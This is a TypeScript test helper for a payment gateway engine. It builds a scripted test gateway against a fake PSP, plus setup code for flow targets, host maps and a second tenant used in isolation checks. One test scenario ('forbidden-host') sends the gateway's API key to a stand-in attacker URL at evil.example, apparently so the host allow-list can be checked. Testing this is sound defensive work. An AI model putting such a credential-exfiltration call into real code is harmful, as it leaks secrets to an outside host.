import assert from 'node:assert/strict';
import type { FastifyInstance } from 'fastify';
import { adminToken } from './engine.js';
import type { FakePsp } from './fake-psp.js';
import { spec } from './spec-examples.js';

/**
 * A test-only gateway: a custom flow target whose DEPOSIT script calls `https://psp.test`, which
 * the environment's host map points at a FakePsp. What the script does is chosen per
 * transaction by `executePayload.body.scenario`.
 */
export const testGatewayScript = `
const API = "https://psp.test";

export async function initiate(ctx, sdk) {
  const scenario = ctx.data.body.scenario ?? "redirect";
  sdk.logger.info("initiate " + ctx.id + " for " + ctx.transaction.amount + " " + ctx.transaction.currency + " key " + ctx.credential.apiKey);
  if (scenario === "throw-early") throw new Error("broke before calling the PSP");
  if (scenario === "invalid") return { nope: true };
  if (scenario === "forbidden-host") await sdk.http.get("https://evil.example/steal?k=" + ctx.credential.apiKey);
  const res = await sdk.http.post(API + "/pay", {
    headers: { Authorization: "Bearer " + ctx.credential.apiKey },
    body: { orderId: ctx.id, amount: ctx.transaction.amount, currency: ctx.transaction.currency, scenario, card: ctx.data.body.card ?? null },
  });
  if (scenario === "throw-late") throw new Error("broke after calling the PSP");
  if (scenario === "hang") await new Promise(() => {});
  if (!res.success) return sdk.response.failure(res.data.message ?? "declined", 400);
  const base = { orderId: ctx.id, userId: ctx.data.body.customer.id, pspTxnId: res.data.id };
  if (res.data.redirectUrl) {
    return sdk.response.success({ ...base, status: "success", navigation: { type: "redirect", contentType: "url", value: res.data.redirectUrl } });
  }
  return sdk.response.success({ ...base, status: res.data.state });
}

export async function status(ctx, sdk) {
  const res = await sdk.http.get(API + "/payments/" + ctx.id);
  return sdk.response.success({ status: res.data.state, pspTxnId: res.data.id });
}

// Signed like most gateways: hex HMAC-SHA256 of the exact body with the API key.
export async function webhook(ctx, sdk) {
  const expected = sdk.crypto.hmac("sha256", ctx.credential.apiKey, ctx.data.rawBody);
  if (!sdk.crypto.timingSafeEqual(expected, ctx.data.headers["x-test-signature"] ?? "")) {
    return sdk.response.failure("invalid signature", 401);
  }
  const body = ctx.data.body;
  if (body.state === "BROKEN") throw new Error("cannot read this event");
  const note = [ctx.data.method, ctx.data.query.note ?? "-", ctx.data.tnxId === ctx.id, typeof ctx.data.token].join(" ");
  return sdk.response.success({ status: body.state, pspTxnId: body.id, message: "webhook " + note });
}

// The payer's return proves nothing: ask the PSP.
export async function redirect(ctx, sdk) {
  const res = await sdk.http.get(API + "/payments/" + ctx.id);
  const data = { orderId: ctx.id, timestamp: new Date().toISOString(), status: res.data.state, message: "payer returned" };
  if (ctx.data.query.to === "script") return sdk.response.redirect("https://shop.example/from-script?o=" + ctx.id, data);
  return sdk.response.success(data);
}
`;

/** What the fake gateway answers per scenario (the body's `scenario` field). */
export function testGatewayHandler(request: { path: string; body: unknown }) {
  const body = (request.body ?? {}) as { orderId?: string; scenario?: string };
  const id = `pg_${body.orderId ?? 'unknown'}`;
  switch (body.scenario) {
    case 'success':
      return { body: { id, state: 'SUCCESS' } };
    case 'failed':
      return { body: { id, state: 'FAILED' } };
    case 'pending':
      return { body: { id, state: 'PENDING' } };
    case 'decline':
      return { status: 402, body: { message: 'card declined by issuer' } };
    case 'page-on-api-host':
      return { body: { id, redirectUrl: `https://psp.test/checkout/${id}` } };
    default:
      return { body: { id, redirectUrl: `https://pay.psp.test/checkout/${id}` } };
  }
}

/**
 * testGatewayHandler, plus the lookup the `status` and `redirect` steps make (GET /payments/{id}),
 * answered from `states` (PENDING for a payment it does not name).
 */
export function handlerWithLookups(states: ReadonlyMap<string, string>) {
  return (request: { method: string; path: string; body: unknown }) => {
    const lookup = /^\/payments\/(ortx\w+)$/.exec(request.path);
    if (request.method === 'GET' && lookup) return { body: { id: `pg_${lookup[1]}`, state: states.get(lookup[1]!) ?? 'PENDING' } };
    return testGatewayHandler(request);
  };
}

export const testCredential = { apiKey: 'test-api-key-7f3a9c' };

export interface TestGateway {
  targetId: string;
  depositDefinitionId: string;
  pspId: string;
}

export type GatewayAction = 'DEPOSIT' | 'WITHDRAW' | 'REFUND';

/** Creates the target (admin API), maps psp.test to the fake PSP, and configures a PSP in the demo environment. */
export async function setUpTestGateway(app: FastifyInstance, token: string, environmentId: string, psp: FakePsp, name = 'Test Gateway'): Promise<TestGateway> {
  const gateway = await setUpGatewayWith(app, token, environmentId, psp, name, ['DEPOSIT']);
  return { targetId: gateway.targetId, depositDefinitionId: gateway.definitionIds.DEPOSIT!, pspId: gateway.pspId };
}

/**
 * The test gateway with the given actions, all run by the one script (it does not care which
 * action runs it), and a PSP with an enabled operation for each.
 */
export async function setUpGatewayWith(
  app: FastifyInstance,
  token: string,
  environmentId: string,
  psp: FakePsp,
  name: string,
  actions: GatewayAction[],
): Promise<{ targetId: string; pspId: string; definitionIds: Partial<Record<GatewayAction, string>> }> {
  const admin = { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' };
  const action = (actionName: GatewayAction) => ({
    script: testGatewayScript,
    description: `TEST-${actionName}`,
    inputSchema: { type: 'object', required: ['customer'], properties: { customer: { type: 'object', required: ['id'] } } },
  });
  const created = await app.inject({
    method: 'POST',
    url: '/admin/v1/flow-targets',
    headers: admin,
    payload: JSON.stringify({
      name,
      credentialSchema: { type: 'object', required: ['apiKey'], properties: { apiKey: { type: 'string' } }, additionalProperties: false },
      allowedHosts: ['psp.test'],
      actions: Object.fromEntries(actions.map((actionName) => [actionName, action(actionName)])),
    }),
  });
  assert.equal(created.statusCode, 201, created.body);
  const target = created.json().data as { id: string; actions: { id: string; name: GatewayAction; definition: { id: string } | null }[] };
  const defined = target.actions.filter((a) => a.definition !== null);
  const mapped = await app.inject({
    method: 'PATCH',
    url: `/admin/v1/environments/${environmentId}`,
    headers: admin,
    payload: JSON.stringify({ hostMap: { 'https://psp.test': psp.origin } }),
  });
  assert.equal(mapped.statusCode, 200, mapped.body);
  const pspRes = await app.inject({
    method: 'POST',
    url: '/connxt/v2/psps/external',
    headers: { 'x-secret-token': token, 'content-type': 'application/json' },
    payload: JSON.stringify({
      name: `${name} PSP`,
      credential: JSON.stringify(testCredential),
      flowTargetId: target.id,
      operations: defined.map((a) => ({ flowActionId: a.id, flowDefinitionId: a.definition!.id, status: 'ENABLED' })),
    }),
  });
  assert.equal(pspRes.statusCode, 200, pspRes.body);
  return {
    targetId: target.id,
    pspId: (pspRes.json() as { data: { id: string } }).data.id,
    definitionIds: Object.fromEntries(defined.map((a) => [a.name, a.definition!.id])),
  };
}

/** A deposit request as spec/001 step 3 shows it, for the test gateway. */
export function depositBody(gateway: TestGateway, overrides: { scenario?: string; orderId?: string; amount?: unknown; currency?: string; body?: Record<string, unknown> } = {}) {
  return {
    flowActionId: spec.actions.DEPOSIT,
    flowTargetId: gateway.targetId,
    pspId: gateway.pspId,
    transactionType: 'deposit',
    txnCurrency: overrides.currency ?? 'USD',
    txnAmount: overrides.amount ?? 200,
    executePayload: {
      body: {
        order: { id: overrides.orderId ?? `order-${Math.random().toString(36).slice(2)}`, money: { amount: 200, currency: 'USD' } },
        customer: { id: 'cust_001', firstName: 'Premium', lastName: 'Customer', email: 'customer.a@example.com' },
        language: 'en',
        scenario: overrides.scenario ?? 'redirect',
        ...overrides.body,
      },
    },
  };
}

/** A second brand and environment with the test gateway set up too: for isolation checks. */
type EngineForTenants = {
  app: FastifyInstance;
  services: { tenants: { createBrand(name: string): Promise<{ id: string }>; createEnvironment(brandId: string, input: { name: string }): Promise<{ id: string; secretToken: string }> } };
};

/** A second brand with an environment: the tenant whose ids must be 404 to the demo one. */
export async function createOtherTenant(engine: EngineForTenants, brandName: string): Promise<{ environmentId: string; token: string }> {
  const brand = await engine.services.tenants.createBrand(brandName);
  const environment = await engine.services.tenants.createEnvironment(brand.id, { name: 'other' });
  return { environmentId: environment.id, token: environment.secretToken };
}

export async function otherTenantWithGateway(
  engine: EngineForTenants,
  psp: FakePsp,
  names: { brand: string; gateway: string },
): Promise<{ environmentId: string; token: string; gateway: TestGateway }> {
  const tenant = await createOtherTenant(engine, names.brand);
  return { ...tenant, gateway: await setUpTestGateway(engine.app, tenant.token, tenant.environmentId, psp, names.gateway) };
}
